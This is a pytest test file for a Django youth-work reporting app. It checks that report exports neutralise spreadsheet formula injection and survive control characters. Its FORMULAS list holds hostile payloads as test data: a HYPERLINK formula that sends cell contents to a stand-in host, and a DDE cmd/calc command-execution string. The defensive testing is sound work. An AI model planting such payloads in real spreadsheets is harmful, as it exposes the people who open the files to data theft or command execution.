"""Hostile texts in names, titles and narratives: no live formula, no failing document."""

import datetime
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from carnet.access.models import Role
from carnet.reports.models import Audience, IssuedReport, NarrativeSection
from carnet.reports.scope import ReportScope
from carnet.reports.services import draft_save_section
from tests.factories import (
    CollectiveActionFactory,
    InterventionFactory,
    MembershipFactory,
    PartnerFactory,
    YouthFactory,
)

pytestmark = pytest.mark.django_db

QUERY = {"start": "2023-05-09", "end": "2023-12-31"}
FORMULAS = ['=HYPERLINK("http://pirate.example/?d="&A1,"Voir")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+2"]


@pytest.fixture
def leader(client, team):
    user = MembershipFactory(team=team, role=Role.TEAM_LEADER).user
    client.force_login(user)
    return user


def hostile_records(team, commune, leader, texts: list[str]) -> None:
    # No sex: the youth is listed, by name, among the report's data gaps (internal version).
    youth = YouthFactory(commune=commune, first_name=texts[0], sex="")
    partner = PartnerFactory(organisation=team.organisation, name=texts[1])
    intervention = InterventionFactory(youth=youth, domains=["scolarite"])
    intervention.partners.add(partner)
    action = CollectiveActionFactory(team=team, title=texts[2])
    action.participants.add(youth)
    scope = ReportScope(
        team=team,
        start=datetime.date.fromisoformat(QUERY["start"]),
        end=datetime.date.fromisoformat(QUERY["end"]),
    )
    draft_save_section(
        scope=scope, section=NarrativeSection.PERSPECTIVES, text=texts[0] + "\n" + texts[2], user=leader
    )


def workbook_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("audience", [Audience.INTERNAL, Audience.EXTERNAL])
def test_formula_injection_through_names_titles_and_narrative_gives_no_formula_in_the_report_workbook(
    client, team, commune, leader, audience
):
    hostile_records(team, commune, leader, FORMULAS)

    response = client.get(
        reverse("reports:export", args=["xlsx"]), {"team": team.pk, "audience": audience, **QUERY}
    )

    assert response.status_code == 200
    cells = workbook_cells(response.content)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert any(str(text).startswith("=HYPERLINK") for text in texts)  # the title, kept as text
    assert "+1+2" in texts or any("+1+2" in str(text) for text in texts)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet for sheet in sheets)


CONTROL_TEXTS = ["Inès\x0bla grande", "Mairie\x0c\x01 de Liévin", "Atelier\x0bcuisine\x1f"]


@pytest.mark.parametrize("fmt", ["xlsx", "docx", "odt"])
def test_control_characters_in_a_name_title_or_narrative_do_not_break_the_exports(
    client, team, commune, leader, fmt
):
    hostile_records(team, commune, leader, CONTROL_TEXTS)

    for audience in (Audience.INTERNAL, Audience.EXTERNAL):
        response = client.get(
            reverse("reports:export", args=[fmt]), {"team": team.pk, "audience": audience, **QUERY}
        )
        assert response.status_code == 200
    if fmt == "xlsx":
        texts = [str(cell.value) for cell in workbook_cells(response.content)]
        assert "Atelier\ncuisine" in texts


def test_control_characters_in_a_name_title_or_narrative_do_not_break_issuing(client, team, commune, leader):
    hostile_records(team, commune, leader, CONTROL_TEXTS)
    query = f"team={team.pk}&start={QUERY['start']}&end={QUERY['end']}"

    response = client.post(f"{reverse('reports:issue')}?{query}", {"audience": Audience.INTERNAL})

    assert response.status_code == 302
    issued = IssuedReport.objects.get()
    for fmt in ("xlsx", "docx", "odt"):
        assert client.get(reverse("reports:issued_download", args=[issued.pk, fmt])).status_code == 200
